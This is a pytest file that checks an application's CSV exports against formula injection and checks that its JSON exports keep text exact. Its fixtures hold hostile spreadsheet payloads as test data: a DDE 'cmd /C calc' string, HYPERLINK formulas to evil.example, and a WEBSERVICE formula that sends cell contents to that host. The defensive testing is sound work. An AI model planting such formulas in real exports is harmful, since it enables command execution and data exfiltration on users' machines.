"""Exports: no cell a spreadsheet would run as a formula; numbers stay numbers, JSON stays exact."""

import csv
import datetime
import io
import json

import pytest

from cooperation import exports
from tests import factories

# What makes a spreadsheet take a cell for a formula (OWASP, "CSV injection").
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
TODAY = datetime.date.today()


def content(response):
    return b"".join(response.streaming_content).decode("utf-8-sig")


def hostile_agreement(start):
    """An agreement whose every text that an export writes starts with `start`."""
    organization = factories.OrganizationFactory(
        acronym=f"{start}cmd|' /C calc'!A0", name=f"{start}SUM(1+1)*cmd|' /C calc'!A0"
    )
    meeting = factories.MeetingFactory(title=f'{start}HYPERLINK("https://evil.example/m","m")')
    agreement = factories.AgreementFactory(
        title=f'{start}HYPERLINK("https://evil.example/{ord(start)}","Click")'
    )
    factories.AgreementPartyFactory(agreement=agreement, organization=organization)
    agreement.record_event("proposed", "2013-08-20", meeting=meeting)
    factories.FollowUpFactory(
        agreement=agreement,
        action=f'{start}WEBSERVICE("https://evil.example/?"&A1)',
        responsible_organization=organization,
    )
    return agreement


@pytest.fixture
def hostile(db):
    return {start: hostile_agreement(start) for start in FORMULA_STARTS}


def exported_rows(client):
    # newline="": a carriage return inside a cell is part of the cell.
    return list(
        csv.DictReader(io.StringIO(content(client.get("/agreements/?format=csv")), newline=""))
    )


# Each column whose words people typed, and the words it starts with.
TEXT_COLUMNS = {
    "Agreement": lambda agreement: agreement.title,
    "Parties": lambda agreement: agreement.party_links.get().organization.acronym,
    "Set at meeting": lambda agreement: agreement.events.get().meeting.title,
    "Open follow-ups": lambda agreement: agreement.follow_ups.get().action,
}


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_a_text_starting_like_a_formula_is_exported_as_text(analyst_client, hostile, start, column):
    agreement = hostile[start]
    (row,) = [r for r in exported_rows(analyst_client) if r["Id"] == str(agreement.pk)]
    assert row[column].startswith("'" + TEXT_COLUMNS[column](agreement))


def test_no_cell_of_an_export_starts_like_a_formula(analyst_client, hostile):
    response = analyst_client.get("/agreements/?format=csv")
    for row in csv.reader(io.StringIO(content(response), newline="")):
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_STARTS)), row


def test_every_text_cell_is_quoted_so_no_separator_starts_a_new_cell(analyst_client, db):
    """A spreadsheet that splits at `;` (its locale's list separator) would read
    `Plan; =1+1` unquoted as a second cell starting with `=`; quoted, it stays whole."""
    agreement = factories.AgreementFactory(title="Plan; =HYPERLINK(1); -1")
    factories.AgreementPartyFactory(agreement=agreement)
    response = analyst_client.get("/agreements/?format=csv")
    # This reader refuses (ValueError) any cell that is neither quoted nor a number.
    header, row = csv.reader(io.StringIO(content(response)), quoting=csv.QUOTE_NONNUMERIC)
    assert header[:2] == ["Id", "Agreement"]
    assert row[0] == agreement.pk and row[1] == "Plan; =HYPERLINK(1); -1"


LEAST, MOST = "Days since last activity, at least", "Days since last activity, at most"


def test_numbers_the_site_writes_stay_numbers(analyst_client, db):
    agreement = factories.AgreementFactory(title="MOU planned ahead")
    # An event dated ahead: days since the last activity is a negative number, not a formula.
    agreement.record_event("proposed", (TODAY + datetime.timedelta(days=3)).isoformat())
    text = content(analyst_client.get("/agreements/?format=csv"))
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["Id"] == str(agreement.pk)
    assert row[LEAST] == row[MOST] == "-3"
    # Unquoted, so a spreadsheet reads them as numbers (this reader makes them floats).
    header, cells = csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC)
    cell = dict(zip(header, cells, strict=True))
    assert cell["Id"] == agreement.pk
    assert cell[LEAST] == cell[MOST] == -3


def test_json_keeps_the_texts_exactly(analyst_client, hostile):
    response = analyst_client.get("/agreements/?format=json")
    exported = {record["id"]: record for record in json.loads(content(response))}
    for agreement in hostile.values():
        record = exported[agreement.pk]
        assert record["title"] == agreement.title
        assert record["parties"] == [agreement.party_links.get().organization.acronym]
        assert record["set_at_meeting"] == agreement.events.get().meeting.title
        assert record["open_follow_ups"][0]["action"] == agreement.follow_ups.get().action


def test_the_one_writer_neutralizes_texts_by_type_and_refuses_what_it_cannot_check():
    lines = list(exports.csv_lines(["id", "name"], [[-5, "-5"], [7, "@SUM(A1)"], [None, "plain"]]))
    assert lines == ['"id","name"\r\n', '-5,"\'-5"\r\n', '7,"\'@SUM(A1)"\r\n', '"","plain"\r\n']
    with pytest.raises(TypeError):
        list(exports.csv_lines(["when"], [[datetime.date(2013, 8, 20)]]))
